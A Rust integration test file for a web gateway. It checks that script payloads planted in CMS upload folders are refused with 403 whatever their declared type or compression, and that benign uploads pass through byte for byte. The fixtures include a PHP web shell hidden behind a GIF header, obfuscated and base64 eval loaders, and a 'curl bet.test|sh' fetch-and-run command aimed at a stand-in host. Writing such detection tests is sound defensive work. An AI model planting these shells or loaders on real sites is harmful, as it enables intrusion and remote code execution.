//! Attack suite (issue 14, delivery: upload folders): loaders and web shells planted in a
//! CMS upload folder and served as a type that is not a script type:
//! `application/octet-stream`, `text/plain`, `application/json`, `text/css`, a made-up
//! type, or none of the usual ones. A `<script src>` that trusts the upload, an
//! `eval(fetch(…))` loader or a browser without the MIME check runs it; a web shell is
//! handed out. In an upload folder a body that is a script (a JavaScript program or
//! script tokens, `<?php`/`<%@` anywhere, a shebang) is refused with 403 and an
//! `upload.doorway` event, whatever its type and content coding.
//!
//! Benign twins come through byte for byte: images, PDFs, text files and CSVs in the
//! same folders, and the CMS's own scripts outside them.

use crate::common;

use bytes::Bytes;
use common::body::{compress, full, resp};
use common::expect::{refused, served, unchanged};
use common::gateway::{Gateway, Setup};

const BODIES: [&str; 6] = [
    "(function(){var u='htt'+'ps://bet.test/';window.location.replace(u)})();",
    "/* cache */\n!function(w){w.location='//bet.test/'}(window);",
    "var _0x1=['\\x68\\x74'];eval(atob('bG9jYXRpb249Jy8vYmV0LnRlc3Qn'));",
    "GIF89a\x01\x00<?php @eval($_POST['x']); ?>",
    "<%@ Page Language=\"C#\" %><% Response.Redirect(\"https://bet.test/\") %>",
    "#!/usr/bin/env python3\nimport os\nos.system('curl bet.test|sh')\n",
];

const TYPES: [&str; 6] = [
    "application/octet-stream",
    "text/plain",
    "text/plain; charset=utf-8",
    "application/json",
    "text/css",
    "application/x-unknown",
];

fn serve(h: &Gateway, path: &str, ty: &'static str, coding: Option<&'static str>, body: Bytes) {
    h.upstream.route(path, move || {
        let mut head = vec![("content-type", ty)];
        if let Some(c) = coding {
            head.push(("content-encoding", c));
        }
        resp(200, &head, full(body.clone()))
    });
}

#[tokio::test]
async fn scripts_in_upload_folders_are_refused_whatever_their_type() {
    let h = Setup::portal().start().await;
    let files = [
        "/wp-content/uploads/2024/05/cache.txt",
        "/images/banner.dat",
        "/uploads/loader",
        "/sites/default/files/data.json",
        "/files/style.css",
        "/wp-content/uploads/x.bin",
    ];
    for (i, ty) in TYPES.iter().enumerate() {
        for (j, body) in BODIES.iter().enumerate() {
            let (dir, name) = files[(i + j) % files.len()].rsplit_once('/').unwrap();
            let path = format!("{dir}/v{i}{j}/{name}");
            serve(&h, &path, ty, None, Bytes::from(*body));
            refused(&h, &path, "upload.doorway", &["bet.test", "eval", "php"]).await;
        }
    }
    // Content-coded too: the look decodes.
    for coding in ["gzip", "br", "deflate"] {
        let path = format!("/uploads/x-{coding}.txt");
        let gz = Bytes::from(compress(coding, BODIES[0].as_bytes()));
        serve(&h, &path, "text/plain", Some(coding), gz);
        refused(&h, &path, "upload.doorway", &["bet.test"]).await;
    }
}

#[tokio::test]
async fn images_pdfs_and_text_files_in_upload_folders_pass_byte_for_byte() {
    let h = Setup::portal().start().await;
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde";
    let pdf: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n";
    let cases: [(&str, &'static str, &[u8]); 6] = [
        ("/wp-content/uploads/a.png", "application/octet-stream", png),
        ("/uploads/van-ban.pdf", "application/pdf", pdf),
        ("/files/van-ban.pdf", "application/octet-stream", pdf),
        (
            "/uploads/huong-dan.txt",
            "text/plain; charset=utf-8",
            "Hướng dẫn nộp hồ sơ: chọn biểu mẫu, điền thông tin, bấm Gửi.\n".as_bytes(),
        ),
        (
            "/sites/default/files/ds.csv",
            "text/csv",
            b"ten,ngay\nA,2024-05-01\n",
        ),
        (
            "/images/cau-hinh.json",
            "application/json",
            b"{\"ten\":\"Cong\",\"so\":3}",
        ),
    ];
    for (path, ty, body) in cases {
        serve(&h, path, ty, None, Bytes::copy_from_slice(body));
        unchanged(&h, path, body).await;
    }
    // The CMS's own script outside the upload folders.
    let js = "(function(){console.log('menu')})();";
    serve(&h, "/js/menu.txt", "text/plain", None, Bytes::from(js));
    served(&h, "/js/menu.txt", &[], 200, js.as_bytes()).await;
    assert!(h.rules().is_empty(), "{:?}", h.rules());
}
